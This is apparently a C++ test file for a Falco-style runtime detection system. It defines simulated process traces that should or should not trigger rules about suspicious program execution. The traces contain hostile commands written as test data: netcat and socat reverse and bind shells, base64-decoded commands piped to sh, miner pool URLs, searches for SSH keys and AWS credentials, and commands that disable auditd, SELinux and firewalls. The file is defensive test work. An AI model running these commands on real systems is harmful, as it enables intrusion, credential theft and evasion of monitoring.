// SPDX-License-Identifier: Apache-2.0
// Cases of the rules about programs that are started.
#include "tests/rules/rule_case.hpp"

#include <cerrno>

namespace falco::test {

namespace {

/// The server's shell: what each case of a taken-over server needs.
Process shell(const std::string &name)
{
	return Process(name).path("/bin/" + name).args({"-c", "id"});
}

} // namespace

std::vector<RuleCase> process_cases()
{
	return {
		{"execute_from_memory",
		 "Critical",
		 [](Trace &trace) {
			 const Pid loader = program(trace, "loader");
			 trace.memfd_create(loader, "payload");
			 trace.spawn(loader, Process("3").path("memfd:payload").from_memfd());
		 },
		 {"executable=memfd:payload", "parent=loader"},
		 [](Trace &trace) {
			 trace.spawn(program(trace, "loader"), Process("3").path("/proc/self/fd/3"));
			 trace.spawn(program(trace, "runc"), Process("runc:[2:INIT]").path("memfd:runc").from_memfd());
			 trace.spawn(program(trace, "podman"), Process("catatonit").path("memfd:init").from_memfd());
		 }},

		{"execute_below_dev",
		 "Error",
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("run").path("/dev/shm/run").args({"-q"}));
			 trace.execveat(parent, Process("x").path("/dev/.x/x"));
		 },
		 {"command=run -q", "executable=/dev/shm/run", "parent=bash"},
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("run").path("/dev/shm/run"), -EACCES);
			 trace.spawn(parent, Process("run").path("/home/dev/run"));
		 },
		 2},

		{"execute_below_tmp",
		 "Notice",
		 [](Trace &trace) {
			 trace.spawn(alice_shell(trace), Process("a.out").path("/tmp/a.out"));
			 trace.spawn(alice_shell(trace), Process("a.out").path("/var/tmp/a.out"));
		 },
		 {"user=alice", "executable=/tmp/a.out"},
		 [](Trace &trace) {
			 trace.spawn(alice_shell(trace), Process("a.out").path("/home/alice/tmp/a.out"));
			 trace.spawn(program(trace, "dpkg"), Process("prerm").path("/tmp/prerm"));
		 },
		 2},

		{"bind_program_to_netcat",
		 "Critical",
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("nc").args({"-l", "-p", "9001", "-e", "/bin/bash"}));
			 trace.spawn(parent, Process("nc").args({"-c", "/bin/bash", "203.0.113.9", "9001"}));
			 trace.spawn(parent, Process("ncat").args({"--exec", "/bin/bash", "-l", "9001"}));
			 trace.spawn(parent, Process("ncat").args({"--sh-exec", "id", "-l", "9001"}));
			 trace.spawn(parent, Process("socat").args({"TCP-LISTEN:9001", "EXEC:/bin/sh"}));
			 trace.spawn(parent, Process("socat").args({"TCP-LISTEN:9001", "SYSTEM:id"}));
		 },
		 {"command=nc -l -p 9001 -e /bin/bash", "parent=bash"},
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("nc").args({"-l", "-p", "9001"}));
			 trace.spawn(parent, Process("grep").args({"-e", "/bin/bash", "nc"}));
		 },
		 6},

		{"run_encoded_commands",
		 "Error",
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 for (const char *decode : {"-d", "--decode"})
				 trace.spawn(parent,
					     Process("sh").path("/bin/sh").args(
						     {"-c", "echo aWQK | base64 " + std::string(decode) + " | sh"}));
		 },
		 {"base64 -d", "parent=bash"},
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("sh").path("/bin/sh").args({"-c", "tar c . | base64"}));
			 trace.spawn(parent, Process("sh").path("/bin/sh").args({"-c", "base64 -d file"}));
			 trace.spawn(parent, Process("base64").args({"-d", "file"}));
		 },
		 2},

		{"run_crypto_miner",
		 "Critical",
		 [](Trace &trace) {
			 for (const std::string protocol : {"stratum+tcp", "stratum+ssl", "stratum2+tcp"})
				 trace.spawn(root_shell(trace),
					     Process("worker").args({"-o", protocol + "://pool.example:3333"}));
		 },
		 {"stratum+tcp://pool.example:3333"},
		 [](Trace &trace) {
			 trace.spawn(root_shell(trace), Process("worker").args({"-o", "https://pool.example"}));
			 trace.spawn(root_shell(trace), Process("worker").args({"-o", "stratum+tcp://x"}), -ENOENT);
		 },
		 3},

		{"search_for_credentials",
		 "Warning",
		 [](Trace &trace) {
			 const Pid parent = alice_shell(trace);
			 for (const char *text : {"BEGIN RSA PRIVATE KEY", "RSA PRIVATE", "BEGIN OPENSSH"})
				 trace.spawn(parent, Process("grep").args({"-r", text, "/home"}));
			 for (const char *name : {"id_rsa*", "id_ed25519", "id_ecdsa"})
				 trace.spawn(parent, Process("find").args({"/", "-name", name}));
			 trace.spawn(parent, Process("find").args({"/home", "-path", "*/.aws/credentials"}));
		 },
		 {"user=alice", "command=grep -r BEGIN RSA PRIVATE KEY /home"},
		 [](Trace &trace) {
			 const Pid parent = alice_shell(trace);
			 trace.spawn(parent, Process("grep").args({"-r", "private", "/home"}));
			 trace.spawn(parent, Process("find").args({"/", "-name", "*.c"}));
			 trace.spawn(parent, Process("ssh").args({"-i", "id_rsa", "host"}));
		 },
		 7},

		{"stop_security_service",
		 "Warning",
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("systemctl").args({"stop", "auditd"}));
			 trace.spawn(parent, Process("service").args({"rsyslog", "stop"}));
			 trace.spawn(parent, Process("systemctl").args({"disable", "apparmor"}));
			 trace.spawn(parent, Process("systemctl").args({"mask", "systemd-journald"}));
			 for (const char *service : {"falco", "firewalld"})
				 trace.spawn(parent, Process("service").args({service, "stop"}));
			 trace.spawn(parent, Process("setenforce").args({"0"}));
			 trace.spawn(parent, Process("auditctl").args({"-D"}));
			 trace.spawn(parent, Process("auditctl").args({"-e", "0"}));
			 trace.spawn(parent, Process("iptables").args({"-F"}));
		 },
		 {"command=systemctl stop auditd"},
		 [](Trace &trace) {
			 const Pid parent = root_shell(trace);
			 trace.spawn(parent, Process("systemctl").args({"status", "auditd"}));
			 trace.spawn(parent, Process("systemctl").args({"stop", "cups"}));
			 trace.spawn(parent, Process("setenforce").args({"1"}));
			 trace.spawn(parent, Process("auditctl").args({"-l"}));
			 trace.spawn(parent, Process("iptables").args({"-L"}));
		 },
		 10},

		{"server_spawned_shell",
		 "Error",
		 [](Trace &trace) {
			 trace.spawn(trace.process(Process("httpd").user("daemon")), shell("sh"));
			 trace.spawn(trace.process(Process("mysqld").user("mysql").container(kContainer)),
				     shell("bash"));
			 trace.spawn(program(trace, "exim4"), shell("sh"));
		 },
		 {"user=daemon", "shell=sh -c id", "parent=httpd"},
		 [](Trace &trace) {
			 const Pid httpd = program(trace, "httpd");
			 trace.spawn(httpd, Process("httpd"));
			 trace.spawn(httpd, shell("sh"), -EACCES);
			 trace.spawn(program(trace, "make"), shell("sh"));
		 },
		 3},

		{"database_spawned_process",
		 "Warning",
		 [](Trace &trace) { trace.spawn(trace.process(Process("mysqld").user("mysql")), Process("wget")); },
		 {"user=mysql", "command=wget", "parent=mysqld"},
		 [](Trace &trace) {
			 trace.spawn(program(trace, "postgres"), Process("postgres"));
			 trace.spawn(program(trace, "elasticsearch"), Process("java"));
			 trace.spawn(program(trace, "mysqld_safe"), Process("wget"));
		 }},

		{"change_users",
		 "Notice",
		 [](Trace &trace) {
			 trace.spawn(root_shell(trace), Process("useradd").args({"-m", "mallory"}));
		 },
		 {"command=useradd -m mallory", "parent=bash"},
		 [](Trace &trace) {
			 trace.spawn(root_shell(trace), Process("id").args({"useradd"}));
			 const Pid script = trace.spawn(program(trace, "dpkg"), shell("sh"));
			 trace.spawn(script, Process("adduser").args({"--system", "_daemon"}));
			 for (const char *manager : {"rpm", "puppet"})
				 trace.spawn(program(trace, manager), Process("useradd").args({"-r", "_daemon"}));
		 }},

		{"package_manager_in_container",
		 "Notice",
		 [](Trace &trace) {
			 trace.add_container(kContainer, "web", "debian:12");
			 const Pid sh = trace.process(Process("sh").container(kContainer));
			 const Pid apt = trace.spawn(sh, Process("apt-get").args({"install", "nmap"}));
			 trace.spawn(apt, Process("dpkg"));
		 },
		 {"command=apt-get install nmap", "container_id=" + kContainerId, "container_name=web"},
		 [](Trace &trace) {
			 trace.spawn(root_shell(trace), Process("apt-get").args({"install", "nmap"}));
		 }},

		{"download_tool_in_container",
		 "Notice",
		 [](Trace &trace) {
			 trace.spawn(trace.process(Process("sh").container(kContainer)),
				     Process("curl").args({"-O", "http://x/y"}));
		 },
		 {"command=curl -O http://x/y", "container_id=" + kContainerId},
		 [](Trace &trace) {
			 trace.spawn(root_shell(trace), Process("curl"));
			 trace.spawn(trace.process(Process("sh").container(kContainer)), Process("curl"), -ENOENT);
		 }},

		{"run_shell_in_container",
		 "Warning",
		 [](Trace &trace) {
			 trace.add_container(kContainer, "web", "debian:12");
			 trace.spawn(trace.process(Process("app").container(kContainer)), shell("bash"));
		 },
		 {"user=root", "container_id=" + kContainerId, "container_name=web", "shell=bash", "parent=app",
		  "cmdline=bash -c id"},
		 [](Trace &trace) {
			 trace.spawn(program(trace, "app"), shell("bash"));
			 trace.spawn(trace.process(Process("bash").container(kContainer)), shell("bash"));
			 for (const char *parent : {"docker", "systemd", "runc:[1:CHILD]"})
				 trace.spawn(program(trace, parent), shell("bash").container(kContainer));
			 trace.spawn(trace.process(Process("app").container(kContainer)), Process("ls"));
			 // Whose child it is, nobody knows: a process that was there before the recording.
			 trace.exec(trace.process(Process("app").container(kContainer).parent(77)), shell("bash"));
		 }},

		{"shell_in_container",
		 "Informational",
		 [](Trace &trace) {
			 const Pid entrypoint =
				 trace.spawn(program(trace, "docker"), shell("bash").container(kContainer));
			 trace.spawn(entrypoint, shell("sh"));
		 },
		 {"container_id=" + kContainerId, "shell=bash", "parent=docker"},
		 [](Trace &trace) {
			 trace.spawn(root_shell(trace), shell("bash"));
			 trace.spawn(trace.process(Process("bash").container(kContainer)), Process("ls"));
		 },
		 2},
	};
}

} // namespace falco::test
